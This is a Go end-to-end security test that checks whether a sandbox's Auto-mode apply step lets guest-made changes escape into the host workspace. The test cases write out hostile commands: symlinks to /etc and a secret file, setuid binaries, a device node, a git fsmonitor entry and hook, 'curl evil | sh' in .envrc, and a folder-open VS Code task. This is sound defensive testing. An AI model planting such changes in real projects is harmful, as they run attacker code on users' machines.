//go:build e2e

package security

import (
	"context"
	"log/slog"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/airlock-sandbox/airlock/app/changes"
	"github.com/airlock-sandbox/airlock/app/sandbox"
	"github.com/airlock-sandbox/airlock/app/workspace"
	"github.com/airlock-sandbox/airlock/guest/client"
)

// TestHeldChanges attacks a folder whose changes are held (issue 32's
// review and auto modes, auto being the default): the guest writes to its
// layer, and what reaches the host is what Auto mode's Apply carries
// there. Links that escape the folder (however they were moved), setuid
// bits, fifos and the paths the user's tools run never reach it.
func TestHeldChanges(t *testing.T) {
	probe(t)
	heldRoot, err := os.MkdirTemp("", "airlock-sec-held-")
	if err != nil {
		t.Fatal(err)
	}
	defer os.RemoveAll(heldRoot)
	os.Chmod(heldRoot, 0o755)
	os.WriteFile(filepath.Join(heldRoot, "secret.txt"), []byte(secretText+"\n"), 0o644)
	ws := filepath.Join(heldRoot, "ws")
	os.Mkdir(ws, 0o755)
	for name, content := range toolFiles {
		p := filepath.Join(ws, name)
		os.MkdirAll(filepath.Dir(p), 0o755)
		os.WriteFile(p, []byte(content), 0o644)
	}
	filepath.Walk(ws, func(p string, _ os.FileInfo, err error) error { os.Lchown(p, 1000, 1000); return nil })
	ws = ownedByTaskUser(ws)
	uid, gid := workspace.Owner(ws)
	store, err := changes.Open(filepath.Join(heldRoot, "state"), changes.Options{})
	if err != nil {
		t.Fatal(err)
	}
	defer store.Close()
	ctx, cancel := context.WithTimeout(context.Background(), 3*time.Minute)
	defer cancel()
	sb, err := sandbox.Start(ctx, sandbox.Options{
		Workspace: ws, Changes: true, LayerDisk: filepath.Join(heldRoot, "state", "layer.vhd"), LayerDiskSize: 256 << 20,
		Image: image, UID: uid, GID: gid, MemoryMiB: 256, CPUs: 1,
		Logger: slog.New(slog.NewTextHandler(os.Stderr, &slog.HandlerOptions{Level: slog.LevelWarn})),
	})
	if err != nil {
		t.Fatalf("boot the held VM: %v", err)
	}
	defer func() {
		cctx, ccancel := context.WithTimeout(context.Background(), 30*time.Second)
		defer ccancel()
		sb.Close(cctx)
	}()
	tools := func(tb testing.TB) string {
		var b strings.Builder
		for _, p := range []string{".git/config", ".git/hooks", ".envrc", ".vscode", ".idea"} {
			b.WriteString(snapshot(tb, filepath.Join(ws, p)))
		}
		return b.String()
	}
	toolsBefore := tools(t)
	epoch := time.Now()

	// applyAuto does what the service does once a task ends and no other
	// runs: the layer into the store, then Auto mode's Apply.
	applyAuto := func(a *Attack) changes.ApplyResult {
		a.Helper()
		rc, err := sb.Agent().ExportLayer(ctx)
		if err != nil {
			a.Fatal(err)
		}
		_, err = store.Ingest(ctx, rc, ws, epoch, changes.DefaultLimits)
		rc.Close()
		if err != nil {
			a.Fatalf("ingest: %v", err)
		}
		res, err := store.Apply(ws, nil, changes.ApplyOptions{Auto: true})
		if err != nil {
			a.Fatalf("apply: %v", err)
		}
		return res
	}
	// reset puts folder, layer and store back as they began.
	reset := func(a *Attack) {
		if _, err := store.Discard(nil); err != nil {
			a.Fatal(err)
		}
		if err := sb.Agent().ForgetLayer(ctx, nil); err != nil {
			a.Fatal(err)
		}
		store.ClearForgotten()
		entries, _ := os.ReadDir(ws)
		for _, e := range entries {
			if _, ok := toolFiles[e.Name()]; !ok && !strings.HasPrefix(e.Name(), ".") {
				os.RemoveAll(filepath.Join(ws, e.Name()))
			}
		}
		epoch = time.Now()
	}
	// A control: an ordinary change reaches the folder.
	r := execOn(t, sb, client.Spec{Argv: []string{"sh", "-c", "echo hello > /workspace/plain.txt"}}, "")
	a0 := &Attack{T: t}
	if res := applyAuto(a0); len(res.Applied) != 1 {
		t.Fatalf("control: a plain file was not applied: %+v (%s)", res, r)
	}
	if b, _ := os.ReadFile(filepath.Join(ws, "plain.txt")); string(b) != "hello\n" {
		t.Fatalf("control: plain.txt on the host is %q", b)
	}
	reset(a0)

	links := []struct{ name, cmd string }{
		{"an absolute link to a host path", "cd /workspace && ln -s /etc lk-etc; ln -s ../secret.txt lk-rel; ls -l"},
		{"a link with .. after a name", "cd /workspace && mkdir -p lk-x && ln -s lk-x/../../secret.txt lk-after; ls -l"},
		{"a relative link moved towards the top", "cd /workspace && mkdir -p lk-m && ln -s ../secret.txt lk-m/l && mv lk-m/l lk-moved; ls -l"},
		{"a folder of relative links moved towards the top", "cd /workspace && mkdir -p a/b && ln -s ../../secret.txt a/b/l && mv a/b top-b; ls -l top-b"},
	}
	for _, who := range []struct {
		tag  string
		root bool
	}{{"the task user", false}, {"guest root", true}} {
		for _, c := range links {
			attack(t, wsFamily, "with changes held, "+who.tag+" plants "+c.name, func(a *Attack) {
				defer reset(a)
				r := execOn(a, sb, client.Spec{Argv: []string{"sh", "-c", c.cmd}, Root: who.root}, "")
				applyAuto(a)
				filepath.Walk(ws, func(p string, fi os.FileInfo, err error) error {
					if err != nil || fi.Mode()&os.ModeSymlink == 0 {
						return nil
					}
					target, _ := os.Readlink(p)
					abs := target
					if !filepath.IsAbs(abs) {
						abs = filepath.Join(filepath.Dir(p), target)
					}
					if rel, err := filepath.Rel(ws, filepath.Clean(abs)); err != nil || rel == ".." || strings.HasPrefix(rel, "../") {
						a.breach("Auto mode applied a link %s -> %s out of the user's folder (%s)", p, target, r)
					}
					return nil
				})
			})
		}
	}
	others := []struct {
		name, cmd string
		root      bool
	}{
		{"a setuid program of the folder's owner", "cp /bin/busybox /workspace/suid && chmod 6755 /workspace/suid", false},
		{"a setuid root program", "cp /bin/busybox /workspace/suid && chmod 6755 /workspace/suid", true},
		{"a fifo", "mkfifo /workspace/fifo", false},
		{"a device node", "mknod /workspace/null c 1 3", true},
		{"a change to .git/config", `printf '[core]\n\tfsmonitor = /workspace/evil\n' >> /workspace/.git/config`, true},
		{"a git hook", `printf '#!/bin/sh\necho evil\n' > /workspace/.git/hooks/pre-commit && chmod +x /workspace/.git/hooks/pre-commit`, true},
		{"a change to .envrc", `echo 'curl evil | sh' >> /workspace/.envrc`, true},
		{"a VS Code task", `echo '{"tasks":[{"runOptions":{"runOn":"folderOpen"}}]}' > /workspace/.vscode/tasks.json`, true},
	}
	for _, c := range others {
		attack(t, wsFamily, "with changes held, Auto mode applies "+c.name, func(a *Attack) {
			defer reset(a)
			r := execOn(a, sb, client.Spec{Argv: []string{"sh", "-c", c.cmd}, Root: c.root}, "")
			applyAuto(a)
			filepath.Walk(ws, func(p string, fi os.FileInfo, err error) error {
				if err == nil && (fi.Mode()&(os.ModeSetuid|os.ModeSetgid) != 0 || fi.Mode()&(os.ModeNamedPipe|os.ModeDevice|os.ModeSocket) != 0) {
					a.breach("Auto mode made %s %v in the user's folder (%s)", p, fi.Mode(), r)
				}
				return nil
			})
			if after := tools(a); after != toolsBefore {
				a.breach("Auto mode changed what the host's tools run (%s):\nbefore:\n%s\nafter:\n%s", r, toolsBefore, after)
			}
		})
	}
}
